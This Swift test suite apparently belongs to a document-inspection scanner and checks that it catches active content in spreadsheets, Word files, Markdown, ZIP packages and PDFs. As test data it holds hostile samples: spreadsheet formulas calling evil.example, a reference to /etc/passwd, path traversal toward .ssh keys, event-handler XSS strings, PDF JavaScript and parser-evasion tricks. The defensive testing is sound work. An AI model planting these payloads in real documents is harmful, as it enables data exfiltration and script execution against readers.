import AirlockCore
import Foundation
import Testing

@testable import Inspection

/// Attack round 12 on inspection, Office: formulas read as LibreOffice compiles them (any white space before `(`,
/// markup inside a formula, computed INDIRECT, a structured reference's `'`, `[1]!name`), relationships resolved as
/// LibreOffice resolves them (`TargetMode` other than `Internal`, targets climbing out of the package, external link
/// paths), markup-compatibility wrappers, and fields split across alternate content.
struct Round12OfficeTests {
    static func sheet(_ formula: String) -> [String] {
        OOXMLParts.findings(
            partName: "xl/worksheets/sheet1.xml",
            bytes: Array("<worksheet><sheetData><row><c r=\"A1\"><f>\(formula)</f></c></row></sheetData></worksheet>".utf8)
        )
    }

    static func relationships(_ relationship: String, part: String = "xl/drawings/_rels/drawing1.xml.rels") -> [String] {
        let body = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\(relationship)</Relationships>"
        return OOXMLParts.findings(partName: part, bytes: Array(body.utf8))
    }

    static let image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"

    @Test(arguments: ["\t", "\n", "\r", "&#10;", "&#9;", "\u{0B}", "\u{0C}", " \n "])
    func anyWhiteSpaceBeforeTheParenthesisIsACall(_ blank: String) {
        #expect(!Self.sheet("1+_xlfn.WEBSERVICE\(blank)(&quot;https://evil.example/&quot;)").isEmpty, "\(blank.debugDescription)")
        #expect(!Self.sheet("RTD\(blank)(&quot;x&quot;,,&quot;y&quot;)").isEmpty, "\(blank.debugDescription)")
    }

    @Test(arguments: [
        "SU<x/>M(1)&amp;_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)",
        "_xlfn.WEB<mc:AlternateContent><mc:Choice Requires=\"q\">X</mc:Choice></mc:AlternateContent>SERVICE(&quot;https://e/&quot;)",
        "<r>1</r>+1",
    ])
    func markupInsideAFormulaIsFound(_ formula: String) {
        #expect(Self.sheet(formula).contains { $0.contains("inside a formula") }, "\(formula)")
    }

    @Test(arguments: [
        "INDIRECT(B7)", "INDIRECT(Sheet2!C1)", "INDIRECT(&quot;'h&quot;&amp;&quot;ttp://evil.example/x'#$S.A1&quot;)",
        "INDIRECT(CONCAT(&quot;'file&quot;,&quot;:///etc/passwd'#$passwd.A1&quot;))", "1+INDIRECT(Target)",
        "INDIRECT(&quot;x&quot;&amp;CHAR(58)&amp;&quot;y&quot;)", "INDIRECT\n(ADDRESS(1,1,1,1,&quot;[x.xlsx]S&quot;))",
    ])
    func aComputedOrExternalIndirectIsFound(_ formula: String) {
        #expect(Self.sheet(formula).contains { $0.contains("INDIRECT") }, "\(formula)")
    }

    @Test(arguments: ["INDIRECT(&quot;Sheet2!B3&quot;)", "INDIRECT(&quot;R1C1&quot;, FALSE)", "SUM(INDIRECT(&quot;A1:A&quot;&amp;10))"])
    func anIndirectSpelledByLiteralsWithinTheWorkbookStaysClean(_ formula: String) {
        #expect(Self.sheet(formula).isEmpty, "\(formula)")
    }

    /// A `'` a structured reference escapes with hides nothing.
    @Test(arguments: [
        "SUM(Sales['#Total])+_xlfn.WEBSERVICE(&quot;https://e/'&quot;)", "COUNT(T['[x']])&amp;RTD(&quot;a&quot;,,&quot;'&quot;)",
        "'&amp;DDE(&quot;cmd&quot;,&quot;x&quot;,&quot;y&quot;)&amp;'",
    ])
    func aQuoteThatIsNotASheetNamesHidesNoCall(_ formula: String) {
        #expect(!Self.sheet(formula).isEmpty, "\(formula)")
    }

    @Test func quotedSheetNamesStayClean() {
        #expect(Self.sheet("SUM('Budget 2024 (draft)'!A1:A9)+'My Sheet'!B2").isEmpty)
    }

    @Test(arguments: ["[1]!Total", "SUM([3]!Rates)", "[12]!x*2"])
    func anotherWorkbooksDefinedNameIsFound(_ formula: String) {
        #expect(!Self.sheet(formula).isEmpty, "\(formula)")
    }

    /// LibreOffice takes any `TargetMode` but `Internal` as external, resolved against the document's location.
    @Test(arguments: ["internal", "External ", "Externa", "INTERNAL", "x"])
    func aTargetModeOtherThanInternalIsExternal(_ mode: String) {
        let relationship = "<Relationship Id=\"rId1\" Type=\"\(Self.image)\" Target=\"../media/image1.png\" TargetMode=\"\(mode)\"/>"
        #expect(!Self.relationships(relationship).isEmpty, "\(mode)")
    }

    @Test(arguments: [
        "../../../../home/user/.ssh/id.png", "..%2F..%2F..%2Fetc%2Fx.png", "..\\..\\..\\x.png", "../..//evil.example/share/x.png",
        "%2e%2e/%2e%2e/%2E%2E/x.png",
    ])
    func aTargetClimbingOutOfThePackageIsFound(_ target: String) {
        let relationship = "<Relationship Id=\"rId1\" Type=\"\(Self.image)\" Target=\"\(target)\"/>"
        #expect(!Self.relationships(relationship).isEmpty, "\(target)")
    }

    @Test(arguments: [
        ("../media/image1.png", "xl/drawings/_rels/drawing1.xml.rels"), ("/xl/media/a.png", "xl/drawings/_rels/drawing1.xml.rels"),
        ("xl/workbook.xml", "_rels/.rels"), ("../media/x.png", "xl/drawings/_rels/drawing1.xml.rels"),
    ])
    func targetsInsideThePackageStayClean(_ target: String, _ part: String) {
        let relationship = "<Relationship Id=\"rId1\" Type=\"\(Self.image)\" Target=\"\(target)\" TargetMode=\"Internal\"/>"
        #expect(Self.relationships(relationship, part: part).isEmpty, "\(target)")
        #expect(OOXMLParts.resolvedTarget(target, relationshipsPart: part) != nil)
    }

    @Test(arguments: ["externalLinkPath", "xlExternalLinkPath/xlPathMissing", "xlExternalLinkPath/xlStartup"])
    func anExternalLinkPathIsFoundWhateverItsTarget(_ type: String) {
        let relationship =
            "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/\(type)\" Target=\"rates.xlsx\"/>"
        #expect(!Self.relationships(relationship, part: "xl/externalLinks/_rels/externalLink1.xml.rels").isEmpty, "\(type)")
    }

    @Test func aConditionalFormatThresholdIsAFormula() {
        let part =
            "<worksheet><conditionalFormatting sqref=\"A1\"><cfRule type=\"colorScale\" priority=\"1\"><colorScale><cfvo type=\"formula\" val=\"_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)\"/><cfvo type=\"max\"/></colorScale></cfRule></conditionalFormatting></worksheet>"
        #expect(!OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(part.utf8)).isEmpty)
        let ordinary = part.replacingOccurrences(of: "_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)", with: "$B$1*2")
        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(ordinary.utf8)).isEmpty)
    }

    /// Excel 2010's data validation and conditional formats write `<x14:formula1><xm:f>…</xm:f></x14:formula1>`.
    @Test func anExtensionFormulaWrappingOneFormulaStaysClean() {
        let part =
            "<worksheet><extLst><ext><x14:dataValidations><x14:dataValidation type=\"list\"><x14:formula1>\n<xm:f>Lists!$A$1:$A$5</xm:f>\n</x14:formula1><xm:sqref>B2</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(part.utf8)).isEmpty)
        let smuggled = part.replacingOccurrences(of: "</xm:f>\n", with: "</xm:f>_xlfn.WEBSERVICE(&quot;https://e/&quot;)")
        #expect(!OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(smuggled.utf8)).isEmpty)
    }

    static func connections(_ body: String) -> [String] {
        OOXMLParts.findings(partName: "xl/connections.xml", bytes: Array(body.utf8))
    }

    @Test func aConnectionInsideAlternateContentIsFound() {
        let part =
            "<mc:AlternateContent><mc:Choice Requires=\"x15\"><connections><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection></connections></mc:Choice></mc:AlternateContent>"
        #expect(!Self.connections(part).isEmpty)
    }

    @Test(arguments: [
        "<connection id=\"1\" name=\"q\" type=\"4\"><dbPr connection=\"Data Source=$Workbook$;Location=ThisWorkbookDataModel\"/><webPr url=\"http://e/\"/></connection>",
        "<connection id=\"1\" name=\"q\" type=\"6\"><dbPr connection=\"Data Source=$Workbook$;Location=ThisWorkbookDataModel\"/></connection>",
        "<connection id=\"1\" name=\"q\" type=\"5\"><dbPr connection=\"Data Source=$Workbook$;Location=ThisWorkbookDataModel\"/><textPr sourceFile=\"\\\\h\\s\\x.txt\"/></connection>",
    ])
    func theDataModelExemptsNoOtherSource(_ connection: String) {
        #expect(!Self.connections("<connections>\(connection)</connections>").isEmpty, "\(connection)")
    }

    @Test func theWorkbooksOwnDataModelStaysClean() {
        let part =
            "<connections><connection id=\"1\" keepAlive=\"1\" name=\"ThisWorkbookDataModel\" type=\"5\"><dbPr connection=\"Data Source=$Workbook$;Location=ThisWorkbookDataModel\"/><olapPr sendLocale=\"1\"/></connection></connections>"
        #expect(Self.connections(part).isEmpty)
    }

    static func document(_ body: String) -> [String] {
        OOXMLParts.findings(partName: "word/document.xml", bytes: Array("<w:document><w:body><w:p>\(body)</w:p></w:body></w:document>".utf8))
    }

    @Test func aFieldWhoseCodeCrossesAlternateContentIsFound() {
        let field =
            "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><mc:AlternateContent><mc:Choice Requires=\"q\"><w:instrText>DATE </w:instrText></mc:Choice></mc:AlternateContent></w:r><w:r><w:instrText>INCLUDETEXT \"\\\\evil\\s\\x.docx\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        #expect(Self.document(field).contains { $0.contains("alternate content") })
    }

    /// Word writes a text box twice (a DrawingML Choice and a VML Fallback), each with its whole field.
    @Test func aWholeFieldInEachBranchStaysClean() {
        let field =
            "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        let box =
            "<w:r><mc:AlternateContent><mc:Choice Requires=\"wps\"><w:drawing><wps:txbx><w:txbxContent><w:p>\(field)</w:p></w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent><w:p>\(field)</w:p></w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
        #expect(Self.document(box).isEmpty, "\(Self.document(box))")
    }
}

/// Attack round 12 on inspection, Markdown: what renderers rewrite before reading HTML (Markdown.pl's unescaped link
/// destinations, link syntax inside raw tags, kramdown's Ruby white space, Python-Markdown's `\>`).
struct Round12MarkdownTests {
    static func findings(_ text: String) -> [String] { TextActiveContent.findings(in: Array(text.utf8), markdown: true) }

    @Test(arguments: [
        "See ![chart](c.png\"onerror=\"alert(1)) here.", "[docs](https://example.com/'/onmouseover='alert(1)) and more",
        "[a](x\"\nonfocus=\"alert(1)\"autofocus=\"1)", "Intro.\n\n[logo]: img.png\"onload=\"alert(1)\n\n![x][logo]",
    ])
    func aHandlerInALinkDestinationIsFound(_ text: String) {
        #expect(Self.findings(text).contains { $0.contains("event handler") }, "\(text.debugDescription)")
    }

    @Test(arguments: [
        "[status](https://example.com/?mode=online) and [x](https://e.example/data-onload=1)", "Turn it on = off (see [docs](a.md)).",
        "[ref]: https://example.com/one?x=1 \"title\"",
    ])
    func ordinaryLinksStayClean(_ text: String) {
        #expect(Self.findings(text).isEmpty, "\(text.debugDescription)")
    }

    @Test(arguments: [
        "![x](y.png){: .wide\u{0B}onerror=\"alert(1)\"}", "![x](y.png){: .wide\u{0C}onerror=\"alert(1)\"}",
        "![x](y.png){: title=\"a\"onerror=\"alert(1)\"}", "<details open=x\u{0B}ontoggle=alert(1)>a</details>",
        "<p><img src=x\u{0B}\u{0B}onerror=alert(1) alt=\"\"></p>",
    ])
    func rubyWhiteSpaceAndQuotesSeparateAttributes(_ text: String) {
        #expect(Self.findings(text).contains { $0.contains("event handler") }, "\(text.debugDescription)")
    }

    @Test(arguments: ["Text <details open a=\\> ontoggle=alert(1) b>x</details>", "<img alt=\\> onerror=alert(1) src=x>"])
    func anEscapedClosingBracketDoesNotEndATag(_ text: String) {
        #expect(Self.findings(text).contains { $0.contains("event handler") }, "\(text.debugDescription)")
    }

    @Test(arguments: [
        "<span title=\"[a](b/onmouseover=alert(1)//)\">x</span>", "<abbr title=\"![i][r]\">x</abbr>\n\n[r]: a/onload=alert(1)",
        "<span title='see <http://e.example/onfocus=alert(1)>'>x</span>", "<span title=\"[r]\">y</span>",
    ])
    func linkSyntaxInsideAnAttributeValueIsFound(_ text: String) {
        #expect(!Self.findings(text).isEmpty, "\(text.debugDescription)")
    }

    @Test func ordinaryInlineHTMLAndEscapesStayClean() {
        let text = "A <span title=\"plain words\">note</span>, a quote \\> here, and <kbd>Ctrl</kbd>+<kbd>C</kbd>.\n\n> quoted \\> text\n"
        #expect(Self.findings(text).isEmpty, "\(Self.findings(text))")
    }
}

/// Attack round 12 on packages: an OLE compound file behind any name or type, and a directory check that stays
/// linear in entries and end records.
struct Round12PackageTests {
    let office = Round9Tests().office
    let containers = ContainerInspectionTests()

    @Test func anOLECompoundFileIsFoundWhateverItsPartIsCalled() async throws {
        let extra = """
                z.writestr('xl/media/image9.png', bytes.fromhex('d0cf11e0a1b11ae1') + bytes(504))
            """
        let path = try await Round9Tests().xlsx(sheet: "b'<worksheet/>'", sheetName: "worksheets/sheet1.xml", extra: extra)
        let verdict = try await containers.inspect(path, name: "book.xlsx", profile: office)
        #expect(verdict.reasons.contains { $0.code == .activeContent && $0.detail.contains("OLE compound file") }, "\(verdict.reasons)")
    }

    /// 20,000 stored entries and 2,900 end-record signatures in the last 64 KiB: each record is placed by a search,
    /// not by a walk over every entry (which took 85 s on 65,000 entries). Asserts the verdict; the test's time
    /// shows the rest.
    @Test func manyEntriesAndEndRecordsAreReadInOnePass() async throws {
        let path = try await containers.build(
            """
            with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as z:
                for i in range(20000):
                    z.writestr('d/%05d.txt' % i, b'')
                z.comment = (b'PK\\x05\\x06' + bytes(16) + b'\\xff\\xff') * 2900
            """
        )
        let descriptor = open(path, O_RDONLY)
        try #require(descriptor >= 0)
        defer { close(descriptor) }
        var cursor = FileCursor(descriptor: descriptor, size: Int64(lseek(descriptor, 0, SEEK_END)))
        let directory = try ZipDirectory.read(&cursor).get()
        #expect(directory.entries.count == 20000)
        #expect(directory.endRecords > 1000)
    }
}

/// Attack round 12 on PDF: an xref Airlock cannot read whole is unscannable, and an object whose header a reader's
/// lexer reads (comments between its numbers) counts wherever it is written.
struct Round12PDFTests {
    static let commentedHeader = "5 %c\n0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj"

    @Test(arguments: PDFRebuiltXrefTests.Mode.allCases)
    func anObjectWithACommentInItsHeaderCountsWhateverTheXref(_ mode: PDFRebuiltXrefTests.Mode) {
        let holder = "<< /Info (note \(Self.commentedHeader)) >>"
        let findings = PDFActiveContent.findings(in: PDFRebuiltXrefTests.pdf(holder: holder, mode: mode))
        #expect(findings.active.contains(PDFRebuiltXrefTests.javaScript), "\(mode): \(findings)")
    }

    /// The round-12 fixture: a document without an xref table, then an xref stream with `dictionary` and `data`.
    static func withXrefStream(_ dictionary: String, _ data: [UInt8]) -> [UInt8] {
        var out = PDFRebuiltXrefTests.pdf(holder: "<< /Info (plain) >>", mode: .noXref)
        let start = out.count
        out += Array("30 0 obj\n<< /Type /XRef /Size 31 /Root 1 0 R \(dictionary) /Length \(data.count) >>\nstream\n".utf8)
        out += data + Array("\nendstream\nendobj\nstartxref\n\(start)\n%%EOF\n".utf8)
        return out
    }

    @Test(arguments: [
        ("/W [1 2 1] /Filter /FlateDecode /DecodeParms << /Predictor 16 /Columns 4 >>", "data"),
        ("/W [1 2 1] /Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 4 /BitsPerComponent 4 >>", "data"),
        ("/W [1 2 1 0] /Filter /FlateDecode", "/W"), ("/W [1 2] /Filter /FlateDecode", "/W"), ("/W [1 9 1] /Filter /FlateDecode", "/W"),
    ])
    func anXrefStreamAirlockCannotReadIsUnscannable(_ dictionary: String, _ what: String) {
        let data = PDFBuilder.deflate([1, 0, 9, 0, 1, 0, 60, 0])
        let findings = PDFActiveContent.findings(in: Self.withXrefStream(dictionary, data))
        #expect(findings.unscannable.contains { $0.contains("xref stream whose \(what)") }, "\(dictionary): \(findings)")
    }

    @Test func aReadableXrefStreamIsNotUnscannable() {
        let findings = PDFActiveContent.findings(in: Self.withXrefStream("/W [1 2 1] /Filter /FlateDecode", PDFBuilder.deflate([1, 0, 9, 0])))
        #expect(!findings.unscannable.contains { $0.contains("xref stream") }, "\(findings)")
    }

    @Test(arguments: ["0000000009. 00000 n ", "0000000009 0. n "])
    func anXrefTableEntryWrittenAsARealIsUnscannable(_ entry: String) {
        var out = PDFRebuiltXrefTests.pdf(holder: "<< /Info (plain) >>", mode: .noXref)
        let start = out.count
        out += Array("xref\n0 2\n0000000000 65535 f \n\(entry)\ntrailer\n<< /Size 2 /Root 1 0 R >>\nstartxref\n\(start)\n%%EOF\n".utf8)
        let findings = PDFActiveContent.findings(in: out)
        #expect(findings.unscannable.contains { $0.contains("xref table entry") }, "\(entry): \(findings)")
    }
}
